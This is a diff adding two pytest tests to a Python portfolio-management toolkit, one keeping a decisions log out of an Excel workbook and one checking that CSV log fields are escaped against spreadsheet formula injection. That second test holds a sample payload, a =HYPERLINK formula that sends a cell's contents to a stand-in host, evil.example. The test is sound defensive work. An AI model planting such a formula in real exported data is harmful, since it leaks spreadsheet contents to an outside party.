@@ -120,3 +120,44 @@ def test_concurrent_threads_lose_nothing(tmp_path) -> None:
     log = load_decisions(tmp_path)
     assert len(log) == 100 and log["decision_id"].is_unique
     assert (tmp_path / LOG_FILE).read_text().count("decision_id,cr_id") == 1  # one header
+
+
+def test_a_portfolio_from_a_workbook_keeps_its_log_beside_it(tmp_path) -> None:
+    """The log of a portfolio loaded from an ``.xlsx`` was the workbook itself: the roll-up
+    read the zip as a CSV log (UnicodeDecodeError) and recording a decision appended CSV text
+    to the workbook, which then no longer opened (the user's data lost)."""
+    from pathlib import Path
+
+    from pmkit.io.csv_folder import load_portfolio
+    from pmkit.io.excel import load_workbook, write_workbook
+    from pmkit.portfolio.rollup import rollup
+
+    data = Path(__file__).resolve().parents[2] / "data"
+    book = write_workbook(load_portfolio(data), tmp_path / "portfolio.xlsx")
+    before = book.read_bytes()
+    pf = load_workbook(book)
+    assert len(rollup(pf)) == len(pf.projects)  # no decisions log yet: nothing to apply
+    cr = pf.changes.loc[pf.changes["decision"] == "pending", "cr_id"].iloc[0]
+    record_decision(pf, cr, "approve", "Board", "within budget")
+    assert book.read_bytes() == before  # the workbook is never written
+    assert load_decisions(tmp_path / LOG_FILE)["cr_id"].tolist() == [cr]
+    again = load_workbook(book)
+    assert apply_decisions(again).set_index("cr_id").loc[cr, "decision"] == "approved"
+    assert rollup(again)["project_id"].tolist() == pf.projects["project_id"].tolist()
+
+
+def test_a_rationale_a_spreadsheet_would_run_is_guarded_in_the_log(tmp_path) -> None:
+    """The board types the rationale on a dashboard; the log is a CSV an auditor opens in
+    Excel, where ``=HYPERLINK(...)`` ran (OWASP's CSV injection). It is written with a guard
+    apostrophe and read back exactly as typed."""
+    import csv
+
+    _pf(tmp_path)
+    why = '=HYPERLINK("http://evil.example/?"&A1,"costed")'
+    record_decision(tmp_path, "C2", "approve", "@board", why)
+    with open(tmp_path / LOG_FILE, encoding="utf-8", newline="") as fh:
+        head, row = list(csv.reader(fh))
+    cells = dict(zip(head, row, strict=True))
+    assert cells["rationale"] == "'" + why and cells["decided_by"] == "'@board"
+    log = load_decisions(tmp_path / LOG_FILE)
+    assert log.loc[0, "rationale"] == why and log.loc[0, "decided_by"] == "@board"
